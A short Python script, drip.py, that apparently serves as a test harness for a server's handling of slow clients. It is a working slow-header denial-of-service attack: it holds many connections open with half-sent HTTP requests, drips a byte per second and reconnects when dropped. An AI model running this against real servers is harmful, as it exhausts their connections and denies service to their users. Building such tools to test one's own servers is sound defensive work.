"""An attacker: N connections that send half a request and a byte a second, back at once when cut off.

drip.py HOST PORT CONNECTIONS SECONDS; prints "dripping" once all have connected, and the count of connects at the end.
"""

from __future__ import annotations

import asyncio
import resource
import sys

import uvloop


async def drip(host: str, port: int, until: float, counts: list[int]) -> None:
    loop = asyncio.get_running_loop()
    while loop.time() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        counts[0] += 1
        writer.write(b"GET / HTTP/1.1\r\nhost: localhost\r\nx-drip: ")
        try:
            while loop.time() < until:
                writer.write(b"x")
                async with asyncio.timeout(1.0):
                    if not await reader.read(4096):
                        break
        except TimeoutError:
            continue
        except OSError:
            pass
        finally:
            writer.transport.abort()


async def main(host: str, port: int, connections: int, seconds: float) -> None:
    counts = [0]
    until = asyncio.get_running_loop().time() + seconds
    tasks = [asyncio.create_task(drip(host, port, until, counts)) for _ in range(connections)]
    while counts[0] < connections and asyncio.get_running_loop().time() < until:
        await asyncio.sleep(0.01)
    print("dripping", flush=True)
    await asyncio.gather(*tasks)
    print(counts[0], flush=True)


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    uvloop.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
